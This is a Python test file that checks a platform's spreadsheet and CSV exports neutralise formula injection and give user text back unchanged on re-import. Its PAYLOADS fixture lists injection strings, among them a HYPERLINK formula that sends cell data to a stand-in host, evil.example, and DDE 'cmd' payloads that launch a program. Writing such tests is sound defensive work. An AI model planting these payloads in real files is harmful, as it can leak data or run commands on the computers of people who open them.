"""Formula injection (ASVS 5.0 1.2.10): text from people never becomes a live formula in any .xlsx or
.csv the platform writes, and our own readers give the text back exactly (export → import round trip).

The check is independent of ``records.cells``: every written workbook is re-opened with openpyxl and
no cell may have the formula type; every CSV field is checked for a dangerous first character.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from littlegiant.records.cells import (
    FORMULA_PATTERN,
    FORMULA_TRIGGERS,
    read_spreadsheet_text,
    spreadsheet_cell,
)

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
DANGEROUS_FIRST = set("=+-@\t\r")


def formula_cells(data: bytes) -> list[tuple[str, str, object]]:
    """Every cell openpyxl reads as a formula, in every sheet (independent of the code under test)."""
    book = load_workbook(io.BytesIO(data))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def dangerous_csv_fields(text: str) -> list[str]:
    return [f for row in csv.reader(io.StringIO(text)) for f in row if f[:1] in DANGEROUS_FIRST]


def test_the_payloads_are_formulas_without_the_neutraliser():
    """The test can fail: openpyxl really writes these strings as formulas."""
    book = Workbook()
    sheet = book.active
    for payload in PAYLOADS:
        sheet.append([payload])
    buffer = io.BytesIO()
    book.save(buffer)
    assert len(formula_cells(buffer.getvalue())) == sum(p.startswith("=") for p in PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_cell_round_trips(payload):
    assert spreadsheet_cell(payload)[0] == "'"
    assert read_spreadsheet_text(spreadsheet_cell(payload)) == payload


def test_the_pattern_and_the_trigger_set_agree():
    import re

    for code in range(0, 0x3000):
        char = chr(code)
        assert bool(re.match(FORMULA_PATTERN, char + "x")) is (char in FORMULA_TRIGGERS), char


def test_archive_export_has_no_formula_and_reimports_the_same_text():
    from littlegiant.io.export import write_archive
    from littlegiant.io.reader import read_tables

    rows = {
        "enterprise": [
            {"uscc": "91110000600037341L", "name": payload, "region_code": "330106"}
            for payload in PAYLOADS[:1]
        ],
        "contacts": [
            {"uscc": "91110000600037341L", "contact_name": payload, "phone": "+86 13800000000"}
            for payload in PAYLOADS
        ],
    }
    buffer = io.BytesIO()
    write_archive(rows, buffer)
    assert formula_cells(buffer.getvalue()) == []
    sheets = {s.table.id: list(s.rows) for s in read_tables(buffer.getvalue(), filename="x.xlsx")}
    read_back = [r["contact_name"] for _, r in sheets["contacts"]]
    assert read_back == [p.replace("\r", "\n") for p in PAYLOADS]  # XML stores CR as LF
    assert next(r["phone"] for _, r in sheets["contacts"]) == "+86 13800000000"
    assert sheets["enterprise"][0][1]["name"] == PAYLOADS[0]


def test_validation_report_neutralises_values_sheet_names_and_notes():
    from littlegiant.io.report import Issue, Report

    report = Report(notes=[PAYLOADS[1]], rows_read={"=sheet": 1})
    for payload in PAYLOADS:
        report.add(Issue("=sheet", 3, "B", "name", "企业名称", payload, "不能为空"))
    buffer = io.BytesIO()
    report.to_xlsx(buffer)
    assert formula_cells(buffer.getvalue()) == []


def test_table_sheets_and_the_catalog_export_are_neutralised(tmp_path: Path):
    from littlegiant.io.table_sheet import add_table_sheet
    from littlegiant.matching.catalogs import CATALOGS
    from littlegiant.web.catalog.queries.exports import catalog_workbook

    book = Workbook()
    add_table_sheet(book, "结果", ("=head", "b"), [(p, 1) for p in PAYLOADS])
    buffer = io.BytesIO()
    book.save(buffer)
    assert formula_cells(buffer.getvalue()) == []

    catalog = CATALOGS[0]
    text_field = next(f.id for f in catalog.fields if f.kind.value == "text" and f.id != "id")
    data = catalog_workbook(catalog, [{text_field: p} for p in PAYLOADS])
    assert formula_cells(data) == []  # reading back is checked by the catalog's own tests


@pytest.mark.duckdb
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_batch_outputs_are_neutralised(tmp_path: Path, suffix):
    import pyarrow as pa

    from littlegiant.batch.rows import write_table

    table = pa.table({"name": [*PAYLOADS, "普通企业"], "score": list(range(len(PAYLOADS) + 1))})
    path = tmp_path / f"out{suffix}"
    write_table(table, path)
    if suffix == ".csv":
        text = path.read_text(encoding="utf-8")
        assert dangerous_csv_fields(text) == []
        assert "普通企业" in text
    else:
        assert formula_cells(path.read_bytes()) == []
